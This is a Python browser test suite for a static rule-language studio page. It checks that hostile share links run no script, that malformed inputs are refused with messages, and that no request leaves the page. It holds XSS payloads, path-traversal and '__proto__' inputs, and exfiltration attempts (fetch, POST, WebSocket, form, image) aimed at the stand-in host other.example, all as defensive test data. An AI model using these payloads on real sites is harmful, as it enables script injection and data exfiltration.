"""Nothing leaves the built page and nothing strange ends it: links of anybody, other servers, a runtime that fails."""

import gzip
import time

import pytest
from rulelang_studio import STATIC
from rulelang_studio.link import fragment

from rulelang.tools.studio.site import find_site
from tests.studio.conftest import serving
from tests.studio.page import PAGE, START, of_page, packed

pytestmark = of_page


def test_it_is_as_small_as_promised(opened):
    opened.seen.clear()
    opened.open("?plain")
    asked = [name or "index.html" for _, name, _ in opened.seen if name != "folder.json"]
    own = {f"{PAGE.name}/{name}" for name in ("app.js", "bundle.zip", "pyodide/pyodide.asm.wasm")}
    assert own <= set(asked)
    assert f"{PAGE.name}/memory.bin" not in asked
    assert sum(len(gzip.compress((STATIC / name).read_bytes(), 6)) for name in asked) <= 10_500_000
    opened.open()


HOSTILE = """rulebook "<img src=x onerror=window.hit=1></script><script>window.hit=2</script>" version "1"
currency EUR
members have
    fund : money
waterfall "<svg onload=window.hit=3>"
    tranche own "</title><img src=x onerror=window.hit=4>" cite "<b>x</b>"
        paid by defaulters from fund
    finally rest "<script>window.hit=5</script>"
ensure "<img src=x onerror=window.hit=6>":
    loss > EUR 90
test "<img src=x onerror=window.hit=7>"
    declared 2025-01-01
    member A
        fund = EUR 1
    default of A loss EUR 2
    expect own pays EUR 2
"""


HOSTILE_EVENT = """event "<img src=x onerror=window.hit=8>"
declared 2025-01-01
member "<img src=x onerror=window.hit=9>" "<img src=x onerror=window.hit=10>"
    fund = EUR 1
default of "<img src=x onerror=window.hit=9>" loss EUR 9.50
"""


def test_a_hostile_link_runs_nothing(page):
    name = "<img src=x onerror=window.hit=11>.rules"
    page.open(
        fragment(
            {name: HOSTILE, "other.rules": HOSTILE.replace("EUR 90", "EUR 9"), "a.event": HOSTILE_EVENT},
            left=name,
            right="a.event",
        )
    )
    for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
        shown = page.tab(tab)
        assert "<img src=x" in shown or tab in ("losses", "problems"), tab
    page.click("#tab-pays")
    for place in ("#panel-pays .cell", "#share", "#save", "#open", "#left-files"):
        page.click(place)
        page.settle()
    page.js("document.getElementById('dialog').close()")
    assert page.js("return window.hit") is None
    markup = "img:not(.cm-widgetBuffer), script:not([src]), main svg script"  # those are the editor's, beside amounts
    assert page.js("return document.querySelectorAll(arguments[0]).length", markup) == 0


@pytest.mark.parametrize(
    ("given", "words"),
    [
        ("#state=!!!", "damaged"),
        ("#state=AAAA", "damaged"),
        (packed(b"not JSON"), "damaged"),
        (packed({"v": 2, "files": {"a.rules": ""}}), "another version"),
        (packed({"v": 1}), "no files"),
        (packed({"v": 1, "files": {}}), "no files"),
        (packed({"v": 1, "files": {"../a.rules": ""}}), "no text of this page"),
        (packed({"v": 1, "files": {"a.rules": {"toString": "x"}}}), "no text of this page"),
        (packed({"v": 1, "files": {"__proto__": "x"}}), "no text of this page"),
        (packed({"v": 1, "files": {"a.html": "x"}}), "no text of this page"),
        (packed({"v": 1, "files": {"a.rules": "#" * 200_001}}), "200,000"),
        (packed(b"[" * 20_000_000), "more than this page takes"),
    ],
)
def test_a_link_that_is_none_is_refused_with_words(page, given, words):
    page.js("location.hash = arguments[0]", given)
    page.until("document.getElementById('dialog').open")
    assert words in page.text("#dialog")
    assert "Nasdaq" in page.js("return studio.editors.left.text")
    page.js("history.replaceState(null, '', '#')")


def test_too_much_text_is_refused_kindly(page):
    before = page.js("return studio.editors.left.text")
    page.js("const v = studio.editors.left.view; v.dispatch({changes: {from: 0, insert: '#'.repeat(4_000_000)}})")
    page.until("document.getElementById('dialog').open")
    assert "this page takes 200,000" in page.text("#dialog")
    assert page.js("return studio.editors.left.text") == before


MANY = 10_000
DEEP = {
    "a chain": " + ".join(["1"] * MANY),
    "brackets": "(" * MANY + "1" + ")" * MANY,
    "what is denied": "not " * MANY + "yes",
    "choices": "if yes then 1 else " * 8_000 + "1",
    "shares of shares": "1% of " * 20_000 + "1",
}


@pytest.mark.parametrize("deep", DEEP.values(), ids=DEEP.keys())
def test_a_text_that_is_too_deep_is_a_finding_and_ends_nothing(page, deep):
    started = page.js("return studio.engine.starts.length")
    first, rest = page.js("return studio.editors.left.text").split("\ndefine ", 1)
    page.write("left", f"{first}\ndefine deep as {deep}\ndefine {rest}")
    page.settle()
    assert "more than 200 deep" in page.tab("problems")
    assert page.js("return studio.engine.starts.length") == started
    assert page.js("return studio.editors.left.text.length") > len(deep)


def test_empty_lines_do_not_hold_the_page_up(page):
    page.write("left", "\n" * 180_000)
    page.settle()
    assert "is empty" in page.tab("problems")


def test_a_runtime_that_fails_starts_again_and_no_text_is_lost(page):
    page.write("left", page.js("return studio.editors.left.text") + "# mine\n")
    page.settle()
    deep = "let deep = []; for (let n = 0; n < 2000; n += 1) deep = [deep];"  # no text does this; it is a real one
    page.js(f"{deep} studio.engine.ask({{ask: 'unzip', data: deep}}).catch((error) => (window.broken = error.message))")
    told = page.until("window.broken")
    assert "Maximum call stack size exceeded" in told
    assert "Your texts are as they were" in told
    assert page.js("return studio.engine.ready") is False
    started = page.js("return studio.engine.starts.length")
    page.write("left", page.js("return studio.editors.left.text") + "# meanwhile\n")
    page.until("studio.engine.ready", seconds=START)
    page.settle()
    assert page.js("return studio.editors.left.text").endswith("# mine\n# meanwhile\n")
    assert page.js("return studio.engine.starts.length") == started
    assert "19,337,349.40" in page.tab("pays")


def test_nothing_leaves_the_page(page):
    page.seen.clear()
    page.write("left", page.js("return studio.editors.left.text") + "# secret\n")
    for tab in ("pays", "explain", "losses", "compare", "tests", "problems"):
        page.tab(tab)
    page.click("#share")
    page.until("document.querySelector('#link')")
    page.js("document.getElementById('dialog').close()")
    assert page.seen == []
    refused = (
        "const done = arguments[0]; fetch('http://other.example/?x').then(() => done('sent'), () => done('refused'))"
    )
    assert page.driver.execute_async_script(refused) == "refused"
    form = "const f = document.createElement('form'); f.action = 'http://other.example/'; document.body.append(f);"
    page.js(f"{form} f.submit()")
    image = "const i = new Image(); i.src = 'http://other.example/i.png'; document.body.append(i)"
    page.js(image)
    time.sleep(0.5)
    assert [each for each in page.others if "other.example" in each] == []
    assert all(method == "GET" and length == 0 for method, _, length in page.seen)
    assert "Nothing leaves this page" in page.text("#promise")
    page.js("document.querySelectorAll('form, body > img').forEach((each) => each.remove())")


def test_the_proxy_would_have_seen_it(opened):
    opened.driver.get("http://control.example/")
    assert any("control.example" in each for each in opened.others)
    opened.open()
    hosts = {each.split("/")[2] for each in opened.others if each.startswith("GET http")}
    assert {host for host in hosts if not host.endswith(".google.com")} == {"control.example"}  # the browser's own


def test_a_copy_on_any_web_server_lets_nothing_out(page, exported):
    tries = (
        "await Promise.allSettled([() => import('http://other.example/a.mjs'), () => fetch('http://other.example/b'),"
        "() => fetch('http://other.example/c', { method: 'POST', mode: 'no-cors', body: 'text' }),"
        "() => new FontFace('x', 'url(http://other.example/d)').load(), () => new Promise((done) => {"
        "new WebSocket('ws://other.example/e').onerror = done })].map(async (attempt) => attempt()));\n"
    )
    worker = exported.folder / PAGE.name / "worker.js"
    worker.write_text(tries + worker.read_text("utf-8"), encoding="utf-8")
    page.driver.get(exported.address)
    page.until("window.studio && studio.engine.ready", seconds=START)
    page.settle()
    assert "19,337,349.40" in page.tab("pays")
    assert [each for each in page.others if "other.example" in each] == []
    page.open()


def test_it_works_without_its_server(page):
    with serving(find_site()) as other:
        page.driver.get(other.address)
        page.until("window.studio && studio.engine.ready", seconds=START)
        page.settle()
    for tab, words in {
        "explain": "The default",
        "tests": "5 of 5",
        "compare": "Edits",
        "pays": "19,337,349.40",
    }.items():
        page.write("right", page.js("return studio.editors.right.text") + "\n")
        assert words in page.tab(tab)
    page.open()


def test_the_memory_is_an_accelerator_only(page, tmp_path):
    assert page.js("return studio.engine.marks.memory") is True
    with_memory = page.js("return studio.engine.marks.package")
    page.open("?plain")
    assert page.js("return studio.engine.marks.memory") is None
    assert page.js("return studio.engine.marks.package") > with_memory
    (tmp_path / "damaged").write_bytes(gzip.compress(gzip.decompress((PAGE / "memory.bin").read_bytes())[:20_000_000]))
    (tmp_path / "nothing").write_bytes(b"\x1f\x8bnothing")
    for name in ("damaged", "nothing"):
        with serving({**find_site(), f"{PAGE.name}/memory.bin": tmp_path / name}) as other:
            page.driver.get(other.address)
            page.until("window.studio && studio.engine.ready", seconds=START)
            page.settle()
            assert page.js("return studio.engine.marks.memory") is None
            assert "19,337,349.40" in page.tab("pays")
    page.open()
